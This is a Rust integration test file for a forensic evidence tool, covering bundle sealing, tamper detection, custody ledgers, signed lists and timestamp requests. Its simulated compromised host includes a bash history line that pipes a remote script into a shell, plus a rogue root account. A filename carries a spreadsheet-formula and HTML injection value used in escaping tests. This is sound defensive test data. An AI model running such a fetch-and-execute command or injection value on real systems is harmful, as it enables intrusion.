//! `stanch preserve`, `seal verify` and `--bundle` on a root directory.

use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::world::World;

fn world() -> World {
    let world = World::new();
    world.file("etc/passwd", "root:x:0:0::/root:/bin/sh\neve:x:0:0::/home/eve:/bin/sh\n");
    world.file("etc/hostname", "web01\n");
    world.file("usr/bin/true", "");
    world.file(
        "var/log/auth.log",
        "Mar  1 08:00:00 web01 sshd[1]: Accepted password for root from 203.0.113.9 port 4 ssh2\n",
    );
    world.file("root/.bash_history", "curl -s http://203.0.113.9/x | sh\n");
    world
}

fn collected(world: &World, more: &[&str]) -> String {
    let file = world.path("case.tar.gz").display().to_string();
    let run = world.run(&[&["preserve", "-o", &file], more].concat());
    assert_eq!(run.code, 0, "{run}");
    file
}

#[test]
fn a_bundle_is_made_verified_and_looked_at() {
    let world = world();
    let file = collected(&world, &[]);
    let made = world.run(&["preserve", "-o", &file]);
    assert_eq!(made.code, 2, "a name that is taken is refused: {made}");
    assert!(made.stderr.contains("could not be written"), "{made}");
    let holds = world.plain(&["seal", "verify", &file]);
    assert_eq!(holds.code, 0, "{holds}");
    assert!(holds.stdout.starts_with("It holds.\n"), "{holds}");
    let zh = world.plain(&["--lang", "zh", "seal", "verify", &file]);
    assert!(zh.stdout.starts_with("完好无损。\n"), "{zh}");
    let users = ["--bundle", &file, "query", "SELECT username FROM users WHERE uid = 0"];
    let users = world.plain(&users);
    assert_eq!(users.stdout, "username\nroot\neve\n", "{users}");
    let events = world.plain(&["--bundle", &file, "events", "/var/log/auth.log"]);
    assert!(events.stdout.contains("\"kind\":\"auth.success\""), "{events}");
    let detect = world.plain(&["--bundle", &file, "detect", "--json"]);
    assert!(detect.stdout.contains("\"host\": \"web01\""), "{detect}");
    let page = world.plain(&["--bundle", &file, "detect"]).stdout;
    assert!(page.contains("Keep the bundle as it is") && !page.contains("the image"), "{page}");
    let lost = world.plain(&["--bundle", &file, "events", "/var/log/nothing"]);
    assert!(lost.stderr.contains("with `--bundle`, give the path that it had"), "{lost}");
    // A bundle is only looked at.
    let refused = world.plain(&["--bundle", &file, "contain", "plan"]);
    assert_eq!(refused.code, 2, "{refused}");
}

#[test]
fn what_is_no_bundle_or_another_by_now_is_told_by_the_exit_code() {
    let world = world();
    let file = collected(&world, &[]);
    let bytes = std::fs::read(&file).unwrap();
    let mut turned = bytes.clone();
    let middle = turned.len() / 2;
    turned[middle] ^= 1;
    std::fs::write(&file, &turned).unwrap();
    let run = world.plain(&["seal", "verify", &file, "--json"]);
    assert_eq!(run.code, 1, "{run}");
    assert!(run.stdout.contains("\"holds\": false"), "{run}");
    std::fs::write(&file, &bytes[..middle]).unwrap();
    let run = world.plain(&["seal", "verify", &file]);
    assert_eq!(run.code, 3, "{run}");
    assert!(run.stdout.contains("The last whole item: "), "{run}");
    std::fs::write(&file, "nothing").unwrap();
    let run = world.plain(&["seal", "verify", &file]);
    assert_eq!(run.code, 2, "{run}");
    let run = world.plain(&["--bundle", &file, "detect"]);
    assert_eq!(run.code, 2, "{run}");
    assert!(run.stderr.contains("could not be opened as a bundle"), "{run}");
}

#[test]
fn a_bundle_that_is_not_there_is_not_said_to_be_written() {
    let world = world();
    let nowhere = world.path("nowhere.tar.gz").display().to_string();
    let folder = world.path("var").display().to_string();
    for path in [&nowhere, &folder] {
        let run = world.plain(&["seal", "verify", path]);
        assert_eq!(run.code, 2, "{run}");
        assert!(run.stderr.contains("could not be verified"), "{run}");
        assert!(run.stderr.contains("stanch preserve"), "{run}");
    }
}

#[test]
fn a_ledger_that_may_not_be_read_is_not_said_to_be_broken() {
    let world = world();
    let case = world.path("root/case");
    std::fs::create_dir(&case).unwrap();
    std::fs::write(case.join("ledger.jsonl"), "").unwrap();
    world.forbid("case");
    let case = case.display().to_string();
    let run = world.as_nobody(&["--case", &case, "ledger", "verify"]);
    assert_eq!(run.code, 4, "{run}");
    assert!(run.stderr.contains("the ledger could not be read"), "{run}");
    let zh = world.as_nobody(&["--lang", "zh", "--case", &case, "ledger", "verify"]).stderr;
    assert!(zh.contains("：权限不足（os error 13）") && zh.contains("查找台账"), "{zh}");
    assert!(run.stderr.contains("as root"), "{run}");
    // Whoever asks what is cut is told the same.
    let status = world.as_nobody_here(&["--case", &case, "contain", "status"]);
    assert_eq!(status.code, 4, "{status}");
    assert!(status.stderr.contains("the ledger could not be read"), "{status}");
}

#[test]
fn a_note_without_words_is_refused() {
    let world = world();
    let case = world.path("case").display().to_string();
    for words in ["", "  \n"] {
        let run = world.plain(&["--case", &case, "ledger", "note", words]);
        assert_eq!(run.code, 2, "{run}");
        assert!(run.stderr.contains("a note without words records nothing"), "{run}");
    }
    assert!(!world.path("case").exists(), "no case is opened for it");
}

#[test]
fn a_case_that_takes_no_record_is_told_before_and_after_and_the_bundle_is_made() {
    let world = world();
    let case = world.path("case");
    assert_eq!(
        world.plain(&["--case", &case.display().to_string(), "ledger", "note", "x"]).code,
        0
    );
    let open = world.path("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let (file, case) = (open.join("a.tar.gz").display().to_string(), case.display().to_string());
    let run = world.as_nobody(&["--case", &case, "preserve", "-o", &file]);
    assert_eq!(run.code, 3, "{run}");
    let ahead = format!("The case {case} takes no record (Permission denied (os error 13))");
    let told = run.stderr.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(told.starts_with(&ahead), "{run}");
    assert!(told.contains("gap: case: "), "{run}");
    let page = run.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(page.contains("The bundle is whole; the case"), "{run}");
    assert!(page.contains(&format!("stanch --case {case} ledger note '{file} root ")), "{run}");
    assert!(!told.contains("nothing was changed"), "{run}");
    let zh = open.join("b.tar.gz").display().to_string();
    let run = world.as_nobody(&["--lang", "zh", "--case", &case, "preserve", "-o", &zh]);
    assert_eq!(run.code, 3, "{run}");
    assert!(run.stderr.contains("无法写入记录（权限不足（os error 13））"), "{run}");
    assert!(run.stdout.contains("证据包完整"), "{run}");
    assert_eq!(world.plain(&["seal", "verify", &file]).code, 0);
    // Who may write to it has it recorded, from its beginning.
    let file = world.path("c.tar.gz").display().to_string();
    let run = world.run(&["--case", &case, "preserve", "-o", &file, "--json"]);
    assert_eq!(run.code, 0, "{run}");
    assert!(run.stdout.contains("\"case_entry\": 4"), "{run}");
    let ledger = world.plain(&["--case", &case, "ledger", "show"]);
    assert!(ledger.stdout.contains("preserve.begun"), "{ledger}");
}

#[test]
fn a_signature_is_made_and_verified_and_a_note_is_kept() {
    let world = world();
    let key = world.path("key").display().to_string();
    assert_eq!(world.plain(&["baseline", "key", "-o", &key]).code, 0);
    let case = world.path("case").display().to_string();
    let note = world.plain(&["--case", &case, "ledger", "note", "disk sealed as 4711"]);
    assert_eq!(note.code, 0, "{note}");
    let file = collected(&world, &["--sign", &key, "--case", &case]);
    let public = format!("{key}.pub");
    let run = world.plain(&["seal", "verify", &file, "--public-key", &public]);
    assert_eq!(run.code, 0, "{run}");
    assert!(run.stdout.contains("evidence of web01"), "{run}");
    let other = world.path("other").display().to_string();
    world.plain(&["baseline", "key", "-o", &other]);
    let run = world.plain(&["seal", "verify", &file, "--public-key", &format!("{other}.pub")]);
    assert_eq!(run.code, 1, "{run}");
    let ledger = world.plain(&["--case", &case, "ledger", "show"]);
    assert!(ledger.stdout.contains("disk sealed as 4711"), "{ledger}");
    assert!(ledger.stdout.contains("preserve.sealed"), "{ledger}");
    let zh = world.plain(&["--lang", "zh", "--case", &case, "ledger", "show"]).stdout;
    for word in ["案件建立", "人工备注", "证据已封存"] {
        assert!(zh.contains(word), "{zh}");
    }
    let custody = Command::new("tar").args(["xzOf", &file, "meta/custody.jsonl"]).output().unwrap();
    assert!(String::from_utf8(custody.stdout).unwrap().contains("disk sealed as 4711"));
}

/// Returns the script that the handbook gives to who does not trust us.
fn script(page: &str) -> &str {
    page.split("```sh\n").nth(1).unwrap().split("```").next().unwrap()
}

#[test]
fn the_script_of_the_handbook_verifies_a_bundle_and_finds_what_is_another() {
    let en = include_str!("../../../../handbook/40-preserve/keeping-evidence.md");
    let zh = include_str!("../../../../handbook/40-preserve/keeping-evidence.zh.md");
    assert_eq!(script(en), script(zh));
    assert!(script(en).lines().count() <= 40);
    let world = world();
    let file = collected(&world, &[]);
    let verify = world.path("verify.sh");
    std::fs::write(&verify, script(en)).unwrap();
    let run = || {
        let out = Command::new("sh").arg(&verify).arg(&file).output().unwrap();
        let said = String::from_utf8_lossy(&out.stdout).into_owned();
        (out.status.code().unwrap(), said + &String::from_utf8_lossy(&out.stderr))
    };
    let (code, said) = run();
    assert_eq!(code, 0, "{said}");
    assert!(said.starts_with("holds: "), "{said}");
    let root = world.plain(&["seal", "verify", &file, "--json"]).stdout;
    let root = root.split("\"merkle_root\": \"").nth(1).unwrap().get(..64).unwrap().to_owned();
    assert!(said.contains(&root), "the same root: {said}");
    let mut bytes = std::fs::read(&file).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    std::fs::write(&file, &bytes).unwrap();
    let (code, said) = run();
    assert_eq!((code, said.as_str()), (1, "does not hold: a byte of the file\n"));
}

/// Starts a collection in a process group of its own.
fn start(world: &World, file: &str) -> std::process::Child {
    let root = world.path("root").display().to_string();
    let mut command = Command::new(env!("CARGO_BIN_EXE_stanch"));
    command.args(["--root", &root, "preserve", "-o", file]).env_clear();
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    command.process_group(0).spawn().unwrap()
}

#[test]
fn killed_at_any_moment_what_was_written_holds_up_to_its_last_whole_item() {
    let world = world();
    // What does not pack well, so that much is written.
    let mut state = 7_u64;
    for number in 0..12 {
        let noise = (0..1 << 20).map(|_| {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            state.to_le_bytes()[7]
        });
        world.bytes(&format!("var/log/noise-{number}"), &noise.collect::<Vec<u8>>());
    }
    let (mut cut, mut most) = (0_u32, 0_u64);
    for moment in 0..20_u32 {
        let folder = world.path(&format!("killed-{moment}"));
        std::fs::create_dir(&folder).unwrap();
        let file = folder.join("case.tar.gz");
        let mut child = start(&world, &file.display().to_string());
        // From the first bytes on, at moments that grow; the first ones before.
        let begun = Instant::now();
        let written = || {
            let names = std::fs::read_dir(&folder).unwrap().filter_map(Result::ok);
            names.filter_map(|entry| entry.metadata().ok()).any(|of| of.len() > 0)
        };
        while moment > 1 && !written() && begun.elapsed() < Duration::from_secs(60) {
            std::thread::sleep(Duration::from_millis(1));
        }
        std::thread::sleep(Duration::from_millis(u64::from(moment * moment)));
        let group = rustix::process::Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap();
        let _gone = rustix::process::kill_process_group(group, rustix::process::Signal::KILL);
        child.wait().unwrap();
        std::thread::sleep(Duration::from_millis(20));
        let left = std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path());
        let left: Vec<_> = left.collect();
        let Some(path) = left.first() else { continue };
        assert_eq!(left.len(), 1, "{left:?}");
        if *path == file {
            assert_eq!(world.plain(&["seal", "verify", &file.display().to_string()]).code, 0);
            continue;
        }
        let run = world.plain(&["seal", "verify", &path.display().to_string(), "--json"]);
        // Before the first bytes went out it is empty, and no bundle; after the last ones it is whole
        // but for its name.
        let is_begun = std::fs::metadata(path).unwrap().len() > 0;
        let codes: &[i32] = if is_begun { &[0, 3] } else { &[2] };
        assert!(codes.contains(&run.code), "{moment}: {run}");
        if run.code == 3 {
            cut += 1;
            let count = run.stdout.split("\"whole\": ").nth(1).unwrap();
            most = most.max(count.split(',').next().unwrap().parse().unwrap());
        }
    }
    assert!(cut >= 3, "{cut}");
    assert!(most > 10, "{most}");
}

/// Runs openssl and returns what it says.
fn openssl(arguments: &[&str]) -> String {
    let output = Command::new("openssl").args(arguments).output().unwrap();
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{arguments:?}: {errors}");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[test]
fn a_list_for_the_court_names_every_item_and_everybody_who_had_it() {
    let world = world();
    world.file("srv/www/=1+1|<b>.php", "<?php");
    let case = world.path("case").display().to_string();
    let note = |text: &str| world.plain(&["--case", &case, "ledger", "note", text]);
    assert_eq!(note("disk seen by Li Wei").code, 0);
    let file = world.path("case.tar.gz").display().to_string();
    let made = world.run(&["--case", &case, "preserve", "-o", &file]);
    assert_eq!(made.code, 0, "{made}");
    assert_eq!(note("handed to Chen Jing").code, 0);

    let json = world.plain(&["--case", &case, "seal", "list", &file, "--json"]);
    assert_eq!(json.code, 0, "{json}");
    let list: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let items = list["items"].as_array().unwrap();
    let of = |path: &str| items.iter().find(|item| item["path"] == path).unwrap();
    let passwd = of("/etc/passwd");
    assert_eq!((&passwd["name"], &passwd["status"]), (&"passwd".into(), &"whole".into()));
    let text = std::fs::read_to_string(world.path("root/etc/passwd")).unwrap();
    assert_eq!(passwd["size"], text.len());
    let sum = |path: &std::path::Path| {
        let said = openssl(&["dgst", "-sha256", "-r", path.to_str().unwrap()]);
        said.split(' ').next().unwrap().to_owned()
    };
    assert_eq!(passwd["sha256"], sum(&world.path("root/etc/passwd")));
    assert_eq!(list["sha256"], sum(&world.path("case.tar.gz")));
    let notes: Vec<(&str, bool)> = list["custody"]
        .as_array()
        .unwrap()
        .iter()
        .map(|note| (note["text"].as_str().unwrap(), note["in_bundle"].as_bool().unwrap()))
        .collect();
    assert_eq!(
        notes,
        [("", true), ("disk seen by Li Wei", true), ("", true), ("handed to Chen Jing", false)]
    );

    let page = world.path("list.html").display().to_string();
    let html = ["--lang", "zh", "seal", "list", &file, "--format", "html", "-o", &page];
    assert_eq!(world.plain(&html).code, 0);
    let html = std::fs::read_to_string(&page).unwrap();
    assert!(html.contains("<h1>电子数据提取固定清单</h1>"), "{html}");
    assert!(html.contains("=1+1|&lt;b&gt;.php") && !html.contains("<b>"), "{html}");
    assert!(html.contains("disk seen by Li Wei") && !html.contains("handed to"), "{html}");
    let csv = world.plain(&["seal", "list", &file, "--format", "csv"]);
    assert_eq!(csv.stdout.lines().count(), items.len() + 1, "{csv}");
    assert!(csv.stdout.contains(",\"'=1+1|<b>.php\","), "{csv}");

    // Of what does not hold there is no list, and no request for a stamp.
    let mut bytes = std::fs::read(&file).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    std::fs::write(&file, &bytes).unwrap();
    assert_eq!(world.plain(&["seal", "list", &file]).code, 4);
    assert_eq!(world.plain(&["seal", "request", &file]).code, 4);
    assert!(!world.path("case.tar.gz.tsq").exists());
    // Of what breaks off there is one of what is whole.
    bytes[middle] ^= 1;
    std::fs::write(&file, bytes.get(..middle).unwrap()).unwrap();
    let cut = world.plain(&["seal", "list", &file]);
    assert_eq!(cut.code, 3, "{cut}");
    assert!(cut.stdout.contains("it breaks off before its seal"), "{cut}");
}

/// The configuration of an authority of the test's own.
const AUTHORITY: &str = "[tsa]\ndefault_tsa = t\n[t]\nserial = SERIAL\ncrypto_device = builtin\n\
    signer_digest = sha256\ndefault_policy = 1.2.3.4\ndigests = sha256\naccuracy = secs:1\n\
    ess_cert_id_alg = sha256\n[req]\ndistinguished_name = dn\nprompt = no\n[dn]\nCN = test\n\
    [ext]\nextendedKeyUsage = critical,timeStamping\nkeyUsage = critical,digitalSignature\n";

#[test]
fn an_authority_answers_the_request_and_its_stamp_stands_for_the_seal() {
    let world = world();
    let file = collected(&world, &[]);
    let run = world.plain(&["seal", "request", &file]);
    assert_eq!(run.code, 0, "{run}");
    assert!(run.stdout.contains("openssl ts -verify -in"), "{run}");
    let at = |name: &str| world.path(name).display().to_string();
    let request = at("case.tar.gz.tsq");
    let said = openssl(&["ts", "-query", "-in", &request, "-text"]);
    for expected in
        ["Version: 1", "Hash Algorithm: sha256", "Nonce: 0x", "Certificate required: yes"]
    {
        assert!(said.contains(expected), "{said}");
    }
    // What the handbook says, with an authority that the test makes.
    let sealed = Command::new("tar").args(["-xzOf", &file, "meta/seal.json"]).output().unwrap();
    std::fs::write(at("seal.json"), &sealed.stdout).unwrap();
    let config = AUTHORITY.replace("SERIAL", &at("serial"));
    std::fs::write(at("tsa.cnf"), config).unwrap();
    std::fs::write(at("serial"), "01\n").unwrap();
    let (cnf, key, ca, answer) = (at("tsa.cnf"), at("key.pem"), at("ca.pem"), at("case.tsr"));
    openssl(&[
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
        "-days",
        "2",
        "-config",
        &cnf,
        "-extensions",
        "ext",
        "-keyout",
        &key,
        "-out",
        &ca,
    ]);
    openssl(&[
        "ts",
        "-reply",
        "-config",
        &cnf,
        "-queryfile",
        &request,
        "-signer",
        &ca,
        "-inkey",
        &key,
        "-out",
        &answer,
    ]);
    let said =
        openssl(&["ts", "-verify", "-in", &answer, "-data", &at("seal.json"), "-CAfile", &ca]);
    assert!(said.contains("Verification: OK"), "{said}");
    openssl(&["ts", "-verify", "-in", &answer, "-queryfile", &request, "-CAfile", &ca]);
    // Two requests differ: an old answer is no answer to a new one.
    let other = at("other.tsq");
    assert_eq!(world.plain(&["seal", "request", &file, "-o", &other]).code, 0);
    assert_ne!(std::fs::read(&other).unwrap(), std::fs::read(&request).unwrap());
    assert_eq!(world.plain(&["seal", "request", &file]).code, 2, "a name that is taken is refused");
}
